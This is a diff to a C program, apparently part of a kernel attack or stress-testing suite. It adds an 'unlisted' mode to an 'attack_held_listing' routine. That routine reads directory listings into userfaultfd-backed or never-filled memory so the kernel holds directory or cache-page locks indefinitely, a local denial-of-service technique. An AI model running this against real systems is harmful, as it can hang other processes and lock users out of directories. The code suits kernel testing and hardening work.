@@ -1,5 +1,6 @@
 // held-listing MEMORY DIRECTORY...: lists each directory into memory that does not come, so that the kernel keeps the lock of the directory, or of a page of
 // its cached listing, for as long as this program lives. MEMORY: a file whose filesystem does not give its pages, or "userfaultfd".
+// "unlisted" before it: the directories are not listed beforehand, so the kernel does not know their entries.
 #include "attacker.h"
 #include <dirent.h>
 #include <errno.h>
@@ -79,6 +80,9 @@ static char *of_file(const char *path, size_t size) {
 }
 
 int attack_held_listing(int count, char **arguments) {
+    int is_unlisted = count > 0 && !strcmp(arguments[0], "unlisted");
+    count -= is_unlisted;
+    arguments += is_unlisted;
     if (count < 2) return 2;
     int directories = count - 1;
     size_t size = (size_t)directories * PAGE;
@@ -87,7 +91,7 @@ int attack_held_listing(int count, char **arguments) {
     char *small = malloc(SMALL);
     for (int i = 0; i < directories; i++) {
         // What is listed twice is answered from the kernel's cache, where it keeps one.
-        for (int turn = 0; turn < 2; turn++) {
+        for (int turn = 0; turn < 2 && !is_unlisted; turn++) {
             int fd = open(arguments[i + 1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
             if (fd < 0) attack_failed(arguments[i + 1]);
             while (getdents64(fd, small, SMALL) > 0) {}
